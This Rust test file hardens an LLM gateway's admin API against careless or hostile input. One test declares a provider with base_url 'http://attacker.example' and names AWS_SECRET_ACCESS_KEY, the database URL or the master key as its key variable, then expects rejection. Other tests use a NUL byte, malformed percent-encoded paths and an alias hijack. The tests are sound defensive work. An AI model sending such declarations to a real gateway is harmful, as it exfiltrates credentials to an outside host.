//! The admin API under hostile or careless input: concurrent edits lose nothing, secrets are
//! write-only, environment variables cannot be pointed anywhere, and every rejection is in
//! the error shape.

use reqwest::Method;
use serde_json::{json, Value};

use crate::fake::{Fake, Reply};
use crate::helpers::*;

async fn app_with(fake: &Fake) -> TestApp {
    let reg = provider("fake", &fake.base_url()) + &model("test/m", &[("fake", "up")], &[]);
    TestApp::spawn_with(
        &reg,
        Opts {
            require_keys: true,
            ..Default::default()
        },
    )
    .await
}

/// Endpoint edits read-modified-wrote the whole model: concurrent edits lost each other.
#[tokio::test]
async fn concurrent_endpoint_edits_lose_nothing() {
    let fake = Fake::start(vec![Reply::simple()]).await;
    let app = app_with(&fake).await;
    let mut tasks = Vec::new();
    for i in 0..12 {
        let (client, url) = (app.client.clone(), app.url("/admin/endpoints"));
        tasks.push(tokio::spawn(async move {
            client
                .post(url)
                .bearer_auth(MASTER)
                .json(&json!({"model": "test/m", "provider": "fake", "upstream_model": format!("up{i}"),
                              "input_price": 1.0, "output_price": 2.0}))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }));
    }
    for t in tasks {
        assert_eq!(t.await.unwrap(), 200);
    }
    let models: Value = app
        .admin(Method::GET, "/admin/models", None)
        .await
        .json()
        .await
        .unwrap();
    let m = models["data"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["slug"] == "test/m")
        .unwrap();
    assert_eq!(m["endpoints"].as_array().unwrap().len(), 13, "{m}");
    app.stop().await;
}

/// A declared `traceparent`/`tracestate` would join every request through the provider to one
/// trace: refused with the field named, nothing stored.
#[tokio::test]
async fn declared_trace_context_headers_are_refused() {
    let fake = Fake::start(vec![Reply::simple()]).await;
    let app = app_with(&fake).await;
    for name in ["traceparent", "TraceState"] {
        let decl = json!({"id": "tp", "kind": "openai", "base_url": fake.base_url(),
                          "headers": {name: "00-11111111111111111111111111111111-2222222222222222-01"}});
        let resp = app
            .admin(Method::POST, "/admin/providers", Some(decl))
            .await;
        assert_eq!(resp.status(), 400, "{name}");
        let body: Value = resp.json().await.unwrap();
        let message = body["error"]["message"].as_str().unwrap();
        assert!(
            message.contains("headers") && message.contains(name),
            "{body}"
        );
    }
    let listed = app
        .admin(Method::GET, "/admin/providers", None)
        .await
        .text()
        .await
        .unwrap();
    assert!(!listed.contains("\"tp\""), "{listed}");
    app.stop().await;
}

/// `GET /admin/providers` returned declared header values (which may hold secrets) in clear.
#[tokio::test]
async fn header_values_are_write_only() {
    let fake = Fake::start(vec![Reply::simple()]).await;
    let app = app_with(&fake).await;
    let decl = json!({"id": "hdr", "kind": "openai", "base_url": fake.base_url(),
                      "headers": {"x-upstream-token": "tok-very-secret-123"}});
    let resp = app
        .admin(Method::POST, "/admin/providers", Some(decl))
        .await;
    assert_eq!(resp.status(), 200);
    let echoed = resp.text().await.unwrap();
    assert!(!echoed.contains("tok-very-secret-123"), "{echoed}");
    let listed = app
        .admin(Method::GET, "/admin/providers", None)
        .await
        .text()
        .await
        .unwrap();
    assert!(!listed.contains("tok-very-secret-123"), "{listed}");
    let listed: Value = serde_json::from_str(&listed).unwrap();
    let p = listed["data"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["id"] == "hdr")
        .unwrap();
    let shown = p["headers"]["x-upstream-token"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(shown.starts_with("***"), "{shown}");
    // Sending the masked value back keeps the secret (a client that round-trips a listing).
    let mut again = p.clone();
    again
        .as_object_mut()
        .unwrap()
        .retain(|k, _| !["active", "inactive_reason"].contains(&k.as_str()));
    assert_eq!(
        app.admin(Method::POST, "/admin/providers", Some(again))
            .await
            .status(),
        200
    );
    app.admin(
        Method::POST,
        "/admin/models",
        Some(json!({"slug": "test/hdr", "endpoints": [{"provider": "hdr", "upstream_model": "x", "input_price": 0.0, "output_price": 0.0}]})),
    )
    .await;
    let key: Value = app
        .admin(Method::POST, "/admin/keys", Some(json!({"name": "k"})))
        .await
        .json()
        .await
        .unwrap();
    let resp = app
        .client
        .post(app.url("/v1/chat/completions"))
        .bearer_auth(key["key"].as_str().unwrap())
        .json(&json!({"model": "test/hdr", "messages": user("x")}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(
        fake.received().last().unwrap().headers["x-upstream-token"],
        "tok-very-secret-123"
    );
    app.stop().await;
}

/// Through the admin API any environment variable could be named as a provider's key and
/// sent to any base_url: a way to exfiltrate the database URL or cloud credentials.
#[tokio::test]
async fn provider_key_variables_come_from_an_allowlist() {
    let fake = Fake::start(vec![Reply::simple()]).await;
    let app = app_with(&fake).await;
    for (field, var) in [
        ("api_key_env", "SWITCHYARD_DATABASE_URL"),
        ("api_key_env", "AWS_SECRET_ACCESS_KEY"),
        ("secret_key_env", "SWITCHYARD_MASTER_KEY"),
    ] {
        let mut decl =
            json!({"id": "evil", "kind": "bedrock", "base_url": "http://attacker.example"});
        decl[field] = json!(var);
        let resp = app
            .admin(Method::POST, "/admin/providers", Some(decl))
            .await;
        let (status, body) = json_of(resp).await;
        assert_eq!(status, 400, "{field} = {var}: {body}");
        assert_eq!(body["error"]["param"], field, "{body}");
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap()
                .contains("SWITCHYARD_PROVIDER_"),
            "{body}"
        );
    }
    // The documented prefix is allowed.
    let ok = json!({"id": "fine", "kind": "openai", "base_url": fake.base_url(), "api_key_env": "SWITCHYARD_PROVIDER_FINE_KEY"});
    assert_eq!(
        app.admin(Method::POST, "/admin/providers", Some(ok))
            .await
            .status(),
        200
    );
    app.stop().await;
}

/// An admin-defined alias could capture another model's traffic.
#[tokio::test]
async fn an_alias_cannot_capture_another_model() {
    let fake = Fake::start(vec![Reply::simple()]).await;
    let app = app_with(&fake).await;
    for alias in ["test/m"] {
        let decl = json!({"slug": "evil/m", "aliases": [alias],
                          "endpoints": [{"provider": "fake", "upstream_model": "x", "input_price": 0.0, "output_price": 0.0}]});
        let (status, body) =
            json_of(app.admin(Method::POST, "/admin/models", Some(decl)).await).await;
        assert_eq!(status, 409, "{alias}: {body}");
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap()
                .contains("test/m"),
            "{body}"
        );
    }
    app.stop().await;
}

/// A NUL in an admin key name gave a 503 on PostgreSQL; extractor rejections answered in
/// plain text.
#[tokio::test]
async fn bad_admin_input_gets_a_clear_error_in_the_error_shape() {
    let fake = Fake::start(vec![Reply::simple()]).await;
    let app = app_with(&fake).await;
    let (status, body) = json_of(
        app.admin(
            Method::POST,
            "/admin/keys",
            Some(json!({"name": "a\u{0}b"})),
        )
        .await,
    )
    .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"]["param"], "name");

    for (path, want) in [
        ("/admin/requests?limit=lots", 400),
        ("/admin/keys/%FF%FE", 400),
        ("/v1/generation?id=%FF", 404),
    ] {
        let resp = app.admin(Method::GET, path, None).await;
        let status = resp.status().as_u16();
        let ct = resp.headers()["content-type"].to_str().unwrap().to_owned();
        let text = resp.text().await.unwrap();
        assert_eq!(status, want, "{path}: {text}");
        assert!(ct.starts_with("application/json"), "{path}: {ct} {text}");
        let v: Value = serde_json::from_str(&text).unwrap();
        assert!(v["error"]["message"].is_string(), "{path}: {v}");
    }
    app.stop().await;
}
